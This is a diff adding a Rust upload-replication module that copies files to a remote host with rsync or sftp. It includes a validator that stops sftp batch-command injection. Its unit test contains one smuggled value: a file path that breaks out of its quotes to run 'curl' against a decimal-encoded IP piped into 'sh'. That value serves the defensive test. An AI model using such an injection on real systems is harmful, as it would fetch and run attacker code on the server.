@@ -0,0 +1,187 @@
+//! # Upload Replication
+//!
+//! Optionally mirrors every received file to a remote host shortly after the
+//! upload completes, so a copy survives the loss of the upload server.
+//!
+//! Replication runs as a background task (see [`crate::tasks`]) and shells out
+//! to the system `rsync` or `sftp` client, reusing the server's SSH
+//! configuration and keys. Authentication must be non-interactive (key-based);
+//! both clients run in batch mode and fail instead of prompting.
+//!
+//! ## Configuration
+//! - `REPLICATION_TARGET`: `user@host:/remote/path` (unset = replication disabled)
+//! - `REPLICATION_METHOD`: `rsync` (default) or `sftp`
+//!
+//! Files are stored remotely with the same layout as locally:
+//! `<remote path>/<storage dir>/<stored_filename>`.
+
+use std::{path::Path, process::Stdio};
+use tokio::{io::AsyncWriteExt, process::Command};
+
+use crate::models::FileUpload;
+
+/// Replication status of a file waiting to be (re)copied
+pub const STATUS_PENDING: &str = "pending";
+
+/// Replication status of a file successfully copied to the target
+pub const STATUS_REPLICATED: &str = "replicated";
+
+/// Replication status after a failed attempt (retried by the task queue)
+pub const STATUS_FAILED: &str = "failed";
+
+/// SSH options shared by both transfer methods
+const SSH_OPTIONS: &str = "-o BatchMode=yes -o ConnectTimeout=30";
+
+/// Copy an uploaded file to the configured replication target
+///
+/// # Arguments
+/// * `method` - `rsync` or `sftp`
+/// * `target` - Remote location in `user@host:/path` form
+/// * `upload_dir` - Local upload base directory
+/// * `upload` - The file to copy
+pub async fn replicate_file(
+    method: &str,
+    target: &str,
+    upload_dir: &Path,
+    upload: &FileUpload,
+) -> Result<(), String> {
+    let local_path = upload.file_path(upload_dir);
+    if !local_path.exists() {
+        return Err(format!("Local file {} is missing", local_path.display()));
+    }
+
+    match method {
+        "rsync" => replicate_with_rsync(target, upload_dir, upload).await,
+        "sftp" => replicate_with_sftp(target, upload_dir, upload).await,
+        other => Err(format!("Unknown replication method '{}'", other)),
+    }
+}
+
+/// Copy with rsync, letting `--relative` recreate the storage directory remotely
+async fn replicate_with_rsync(
+    target: &str,
+    upload_dir: &Path,
+    upload: &FileUpload,
+) -> Result<(), String> {
+    // The "/./" marks where the relative path that is recreated remotely starts
+    let source = format!(
+        "{}/./{}/{}",
+        upload.volume_root(upload_dir).display(),
+        upload.storage_dir,
+        upload.stored_filename
+    );
+
+    let output = Command::new("rsync")
+        .arg("--archive")
+        .arg("--relative")
+        .arg("--partial")
+        .arg("-e")
+        .arg(format!("ssh {}", SSH_OPTIONS))
+        .arg(&source)
+        .arg(format!("{}/", target.trim_end_matches('/')))
+        .stdin(Stdio::null())
+        .output()
+        .await
+        .map_err(|e| format!("Failed to run rsync: {}", e))?;
+
+    if output.status.success() {
+        Ok(())
+    } else {
+        Err(format!(
+            "rsync exited with {}: {}",
+            output.status,
+            String::from_utf8_lossy(&output.stderr).trim()
+        ))
+    }
+}
+
+/// A path to quote in an sftp batch, refused if it could end the quoted
+/// string or the line
+///
+/// sftp runs batch lines starting with `!` in a local shell, so a path that
+/// closes its quotes or starts a new line must never reach the batch.
+fn batch_path(path: &str) -> Result<&str, String> {
+    if path.contains(['"', '\\']) || path.chars().any(char::is_control) {
+        return Err(format!("Refusing to replicate unsafe path {:?}", path));
+    }
+    Ok(path)
+}
+
+/// Copy with an sftp batch session
+async fn replicate_with_sftp(
+    target: &str,
+    upload_dir: &Path,
+    upload: &FileUpload,
+) -> Result<(), String> {
+    let (host, remote_dir) = target
+        .split_once(':')
+        .ok_or_else(|| format!("Invalid SFTP target '{}', expected host:/path", target))?;
+
+    let remote_dir = remote_dir.trim_end_matches('/');
+    let remote_folder = format!("{}/{}", remote_dir, upload.storage_dir);
+    let local_path = upload.file_path(upload_dir);
+
+    // sftp's mkdir isn't recursive, so create every level of the storage directory.
+    // A leading "-" lets the batch continue when a folder already exists.
+    let mut batch = String::new();
+    let mut folder = remote_dir.to_string();
+    for segment in upload.storage_dir.split('/') {
+        folder = format!("{}/{}", folder, segment);
+        batch.push_str(&format!("-mkdir \"{}\"\n", batch_path(&folder)?));
+    }
+    batch.push_str(&format!(
+        "put \"{}\" \"{}\"\n",
+        batch_path(&local_path.display().to_string())?,
+        batch_path(&format!("{}/{}", remote_folder, upload.stored_filename))?
+    ));
+
+    let mut child = Command::new("sftp")
+        .args(SSH_OPTIONS.split(' '))
+        .arg("-b")
+        .arg("-")
+        .arg(host)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .map_err(|e| format!("Failed to run sftp: {}", e))?;
+
+    if let Some(mut stdin) = child.stdin.take() {
+        stdin
+            .write_all(batch.as_bytes())
+            .await
+            .map_err(|e| format!("Failed to send sftp commands: {}", e))?;
+    }
+
+    let output = child
+        .wait_with_output()
+        .await
+        .map_err(|e| format!("Failed to run sftp: {}", e))?;
+
+    if output.status.success() {
+        Ok(())
+    } else {
+        Err(format!(
+            "sftp exited with {}: {}",
+            output.status,
+            String::from_utf8_lossy(&output.stderr).trim()
+        ))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn batch_paths_cannot_escape_their_quotes() {
+        assert_eq!(
+            batch_path("/srv/mirror/2025/a1b2.pdf"),
+            Ok("/srv/mirror/2025/a1b2.pdf")
+        );
+        assert!(batch_path("/srv/x.a\"\n!curl 3232235777|sh #").is_err());
+        assert!(batch_path("/srv/x.a\"").is_err());
+        assert!(batch_path("/srv/x\\y").is_err());
+        assert!(batch_path("/srv/x\ry").is_err());
+    }
+}